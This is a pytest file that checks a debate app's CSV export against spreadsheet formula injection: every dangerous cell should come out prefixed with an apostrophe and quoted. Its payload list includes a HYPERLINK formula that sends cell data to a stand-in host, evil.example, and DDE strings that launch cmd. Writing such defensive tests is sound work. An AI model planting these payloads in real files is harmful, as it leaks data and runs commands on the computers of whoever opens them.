"""CSV export: no cell runs as a formula when the file is opened in a spreadsheet (OWASP, "CSV Injection")."""

import csv
import io

import pytest
from sqlalchemy import text

from icsdebate import db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    '=cmd|"/C calc"!A0',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(app, client, mini, formula):
    with app.app_context(), db.write_session() as session:
        session.execute(text("UPDATE node SET title = :t WHERE id = :id"), {"t": formula, "id": mini["pro-boards"]})
        session.execute(
            text("UPDATE citation SET quote = :q, locator = :l WHERE node_id = :id"),
            {"q": formula, "l": formula, "id": mini["pro-boards"]},
        )
        session.execute(text("UPDATE voice SET name = :n"), {"n": formula})
    body = client.get("/debates/mini/export/csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    row = next(r for r in rows if r["title"].endswith(formula[1:]))
    assert row["title"] == "'" + formula and row["quote"] == "'" + formula and row["locator"] == "'" + formula
    assert row["voice"] == "'" + formula
    # every cell is quoted, so no separator, quote or line break inside a cell starts a new one
    for record in csv.reader(io.StringIO(body), quoting=csv.QUOTE_ALL):
        assert len(record) == len(rows[0])
    assert body.startswith('"id","debate","kind","title"') and f"\"'{formula[:5]}" in body


def test_ordinary_cells_are_unchanged(client, mini):
    rows = list(csv.DictReader(io.StringIO(client.get("/debates/mini/export/csv").get_data(as_text=True))))
    assert {row["title"] for row in rows} >= {
        "ICSs open the door to privatisation",
        "Private companies could sit on ICS boards",
    }
